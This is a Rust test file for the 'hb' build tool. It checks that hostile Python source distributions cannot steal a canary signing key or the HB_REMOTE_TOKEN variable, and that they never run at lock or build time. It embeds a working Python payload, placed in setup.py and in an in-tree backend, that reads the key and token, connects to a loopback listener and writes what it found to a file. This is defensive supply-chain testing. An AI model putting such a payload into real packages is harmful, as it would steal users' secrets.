//! Hostile dependencies: an sdist whose `setup.py` (or in-tree build backend) steals a
//! secret — a file standing in for the cache signing key, and `HB_REMOTE_TOKEN` from
//! hb's environment — writes it where the test looks, and calls a TCP listener on
//! loopback. At `hb lock` it may run only in the sandbox (no host files, no hb
//! variables); at a cold `hb build` nothing of it may run at all: the locked sdist is
//! fetched from a local index on loopback and verified, never prepared by pip.
//! Offline: the index is served here, the build tools' wheels come from the test
//! wheelhouse, and pip is told to build with the interpreter's own setuptools
//! (`PIP_NO_BUILD_ISOLATION=0`), so that a pip which prepares the sdist runs its code
//! without fetching setuptools' sdist (before the fix, it did). The roots are locked
//! empty: the fetches, not the compiles, are the story.

use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::harness::{Ws, run, sha256, show, wheelhouse};
use crate::index::serve_index;

const TOKEN: &str = "canary-token-7f3a";
const KEY: &str = "canary-signing-key-91c2";

/// The secrets a hostile build could reach, and where it reports what it got.
struct Canary {
    dir: tempfile::TempDir,
    /// Stands in for the cache signing key: a host file outside everything hb mounts.
    key: PathBuf,
    /// Where the hostile code writes what it read.
    loot: PathBuf,
    port: u16,
    /// Connections the listener accepted.
    calls: Arc<AtomicUsize>,
}

impl Canary {
    fn new() -> Canary {
        let dir = tempfile::tempdir().unwrap();
        let key = dir.path().join("signing.key");
        std::fs::write(&key, KEY).unwrap();
        let loot = dir.path().join("loot");
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let calls = Arc::new(AtomicUsize::new(0));
        let counted = calls.clone();
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                counted.fetch_add(1, Ordering::SeqCst);
                let mut buf = [0u8; 64];
                let _ = conn.map(|mut c| c.read(&mut buf));
            }
        });
        Canary { dir, key, loot, port, calls }
    }

    /// The Python that steals: reads the key and the token, calls the listener, writes
    /// what it got to the loot file (each step on its own, so one refusal does not
    /// hide another).
    fn payload(&self) -> String {
        format!(
            "import os, socket\n\
             got = []\n\
             try:\n    got.append('key=' + open({key:?}).read())\n\
             except Exception as e:\n    got.append('key unreadable: %r' % e)\n\
             got.append('token=' + os.environ.get('HB_REMOTE_TOKEN', ''))\n\
             try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=3).close()\n    got.append('called')\n\
             except Exception as e:\n    got.append('no call: %r' % e)\n\
             try:\n    open({loot:?}, 'a').write('\\n'.join(got) + '\\n')\n\
             except Exception:\n    pass\n",
            key = self.key.display().to_string(),
            loot = self.loot.display().to_string(),
            port = self.port,
        )
    }

    fn loot(&self) -> String {
        std::fs::read_to_string(&self.loot).unwrap_or_default()
    }

    /// No secret left the host: the loot (if the code ran at all, sandboxed) holds
    /// neither the key nor the token.
    fn assert_no_secret(&self, when: &str) {
        let loot = self.loot();
        assert!(!loot.contains(KEY), "{when}: the dependency's code read the signing key:\n{loot}");
        assert!(!loot.contains(TOKEN), "{when}: the dependency's code saw HB_REMOTE_TOKEN:\n{loot}");
    }

    /// Nothing of the dependency ran: no loot, no call.
    fn assert_nothing_ran(&self, when: &str) {
        self.assert_no_secret(when);
        assert_eq!(self.loot(), "", "{when}: the dependency's code ran");
        assert_eq!(self.calls.load(Ordering::SeqCst), 0, "{when}: the dependency's code called the listener");
    }
}

/// `NAME-1.0.tar.gz` in `dir` with PKG-INFO and the given files (top directory added).
pub(crate) fn sdist(dir: &Path, name: &str, files: &[(&str, String)]) -> PathBuf {
    let top = dir.join(format!("{name}-1.0"));
    std::fs::create_dir_all(&top).unwrap();
    std::fs::write(top.join("PKG-INFO"), format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")).unwrap();
    for (rel, text) in files {
        std::fs::write(top.join(rel), text).unwrap();
    }
    run(Command::new("tar")
        .args(["--sort=name", "--mtime=@0", "--owner=0", "--group=0", "-czf"])
        .arg(format!("{name}-1.0.tar.gz"))
        .arg(format!("{name}-1.0"))
        .current_dir(dir));
    std::fs::remove_dir_all(&top).unwrap();
    dir.join(format!("{name}-1.0.tar.gz"))
}

/// The build tools' wheels (setuptools, wheel) of the test wheelhouse, copied into
/// `dir`: the only other files the story needs.
pub(crate) fn build_tools(dir: &Path) {
    for e in hb_fs::read_dir_sorted(wheelhouse()).unwrap() {
        let name = e.file_name().to_string_lossy().into_owned();
        if (name.starts_with("setuptools-") || name.starts_with("wheel-")) && name.ends_with(".whl") {
            std::fs::copy(e.path(), dir.join(&name)).unwrap();
        }
    }
}

/// A workspace whose app depends on `dep`, allowed from its sdist, with the roots
/// locked empty (nothing here reaches a Debian mirror).
pub(crate) fn workspace(dep: &str) -> Ws {
    let ws = Ws::empty();
    ws.write(
        "BUILD.toml",
        "[workspace]\nsource_date_epoch = 1700000000\nplatform = \"bookworm-amd64\"\n\n[[python_app]]\nname = \"app\"\nmodule = \"app:app\"\nallow_sdist = true\n",
    );
    ws.write(
        "pyproject.toml",
        &format!(
            "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"app\"\nversion = \"1.0\"\ndependencies = [\"{dep}\"]\n\n[tool.setuptools]\npy-modules = [\"app\"]\n"
        ),
    );
    ws.write("app.py", "def app(environ, start_response):\n    return []\n");
    let p = hb_platform::lookup("bookworm-amd64").unwrap();
    let empty = |extra: Vec<String>| hb_root::Root {
        platform: p.name.to_string(),
        inputs: hb_root::inputs_digest_with(p, &extra),
        extra,
        package: Vec::new(),
    };
    let lock =
        hb_root::RootLock { roots: vec![empty(Vec::new()), empty(hb_root::canonical_extra(&p.compile_packages()))] };
    ws.write("hb-root.lock", &lock.render());
    ws
}

/// The app's lock, written here (not by `hb lock`, so the story starts at the build):
/// the runtime files and the build wheels (by prefix) of `dir`, as `hb lock` would
/// write them for `workspace`'s app.
fn write_lock(ws: &Ws, dir: &Path, runtime: &[&str], build: &[&str]) {
    let p = hb_platform::lookup("bookworm-amd64").unwrap();
    let target = hb_python::Target { python: p.python, glibc: p.glibc, arch: p.wheel_arch.to_string() };
    let mut files = Vec::new();
    for e in hb_fs::read_dir_sorted(dir).unwrap() {
        let file = e.file_name().to_string_lossy().into_owned();
        let role = if runtime.contains(&file.as_str()) {
            hb_fetch::Role::Runtime
        } else if build.iter().any(|b| file.starts_with(b)) {
            hb_fetch::Role::Build
        } else {
            continue;
        };
        let (name, version) = match hb_python::WheelName::parse(&file) {
            Ok(w) => (w.normalized_name(), w.version.clone()),
            Err(_) => hb_fetch::sdist::parse_name(&file).unwrap(),
        };
        files.push(hb_fetch::LockedFile {
            name,
            version,
            role,
            sha256: sha256(&e.path()),
            file,
            targets: Vec::new(),
            pure: false,
        });
    }
    let inputs = hb_fetch::inputs_digest(
        &[runtime_requirement(runtime)],
        &["setuptools".to_string()],
        std::slice::from_ref(&target.id()),
        "*",
    );
    let lock = hb_fetch::Lock::merge(inputs, vec![(target.id(), files)]);
    ws.write("hb.lock", &lock.render("//:app"));
}

/// The app's one dependency, named by its locked file.
fn runtime_requirement(runtime: &[&str]) -> String {
    runtime.first().and_then(|f| hb_fetch::sdist::parse_name(f)).map(|(n, _)| n).unwrap_or_default()
}

/// hb in `ws` with a secret in its environment and only the pip settings of `env`.
fn hb(ws: &Ws, canary: &Canary, args: &[&str], env: &[(&str, &str)]) -> Output {
    // The key and the loot file are the user's own, as hb's user would have them.
    crate::harness::give_to_runner(canary.dir.path());
    let mut c = ws.bare_cmd();
    c.args(args);
    c.env("HB_CACHE_DIR", &ws.cache).env("NO_COLOR", "1").env("HB_REMOTE_TOKEN", TOKEN);
    c.env("HB_SIGNING_KEY", &canary.key);
    for k in
        ["PIP_FIND_LINKS", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_NO_INDEX", "PIP_CONFIG_FILE", "HB_PIP_PYTHON"]
    {
        c.env_remove(k);
    }
    c.envs(env.iter().copied());
    c.output().unwrap()
}

#[test]
fn a_hostile_setup_py_sees_no_secret_at_lock() {
    let canary = Canary::new();
    let finds = canary.dir.path().join("finds");
    std::fs::create_dir_all(&finds).unwrap();
    build_tools(&finds);
    sdist(&finds, "evil", &[("setup.py", format!("{}from setuptools import setup\nsetup()\n", canary.payload()))]);
    let ws = workspace("evil");
    let finds_s = finds.display().to_string();
    let out = hb(
        &ws,
        &canary,
        &["lock", "//:app"],
        &[("PIP_FIND_LINKS", &finds_s), ("PIP_NO_INDEX", "1"), ("PIP_NO_BUILD_ISOLATION", "0")],
    );
    // pip resolves in a sandbox that shares the network (it must reach the index), so
    // code running there could still call out: the secrets are what it must not see.
    canary.assert_no_secret("hb lock");
    assert!(out.status.success(), "{}", show(&out));
    let lock = std::fs::read_to_string(ws.root.join("hb.lock")).unwrap();
    assert!(lock.contains("file = \"evil-1.0.tar.gz\""), "{lock}");
}

#[test]
fn an_in_tree_backend_is_refused_before_anything_runs_it() {
    let canary = Canary::new();
    let finds = canary.dir.path().join("finds");
    std::fs::create_dir_all(&finds).unwrap();
    build_tools(&finds);
    sdist(
        &finds,
        "inside",
        &[
            (
                "pyproject.toml",
                "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n".to_string(),
            ),
            (
                "backend.py",
                format!(
                    "{}\ndef get_requires_for_build_wheel(config_settings=None):\n    return []\n\ndef prepare_metadata_for_build_wheel(d, config_settings=None):\n    raise SystemExit('ran')\n",
                    canary.payload()
                ),
            ),
        ],
    );
    let ws = workspace("inside");
    let finds_s = finds.display().to_string();
    let out = hb(&ws, &canary, &["lock", "//:app"], &[("PIP_FIND_LINKS", &finds_s), ("PIP_NO_INDEX", "1")]);
    canary.assert_nothing_ran("hb lock of an sdist with an in-tree backend");
    assert!(!out.status.success());
    let err = show(&out);
    assert!(err.contains("inside-1.0.tar.gz") && err.contains("backend-path"), "{err}");
}

#[test]
fn a_cold_build_fetches_a_hostile_sdist_without_running_it() {
    let canary = Canary::new();
    let finds = canary.dir.path().join("finds");
    std::fs::create_dir_all(&finds).unwrap();
    build_tools(&finds);
    sdist(&finds, "evil", &[("setup.py", format!("{}from setuptools import setup\nsetup()\n", canary.payload()))]);
    let ws = workspace("evil");
    write_lock(&ws, &finds, &["evil-1.0.tar.gz"], &["setuptools-", "wheel-"]);

    // The files are on an index on loopback only; no wheelhouse holds them.
    let (url, state) = serve_index(finds.clone());

    // pip's own index, which hb is not told: an interpreter whose pip has the index in
    // its environment stands in for pip's default (hb must ask pip, then fetch itself).
    let python = canary.dir.path().join("python");
    std::fs::write(&python, format!("#!/bin/sh\nPIP_INDEX_URL='{url}' exec python3 \"$@\"\n")).unwrap();
    std::fs::set_permissions(&python, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let python_s = python.display().to_string();
    let out =
        hb(&ws, &canary, &["build", "-k", "//:app"], &[("HB_PIP_PYTHON", &python_s), ("PIP_NO_BUILD_ISOLATION", "0")]);
    canary.assert_nothing_ran("a cold hb build from pip's own index");
    let served = state.lock().unwrap().served.clone();
    assert!(served.iter().any(|f| f == "evil-1.0.tar.gz"), "{served:?}\n{}", show(&out));

    // The configured index (PIP_INDEX_URL), in a fresh cache.
    std::fs::remove_dir_all(&ws.cache).unwrap();
    state.lock().unwrap().served.clear();
    let out = hb(&ws, &canary, &["build", "-k", "//:app"], &[("PIP_INDEX_URL", &url), ("PIP_NO_BUILD_ISOLATION", "0")]);
    canary.assert_nothing_ran("a cold hb build from PIP_INDEX_URL");
    let served = state.lock().unwrap().served.clone();
    assert!(served.iter().any(|f| f == "evil-1.0.tar.gz"), "{served:?}\n{}", show(&out));
}
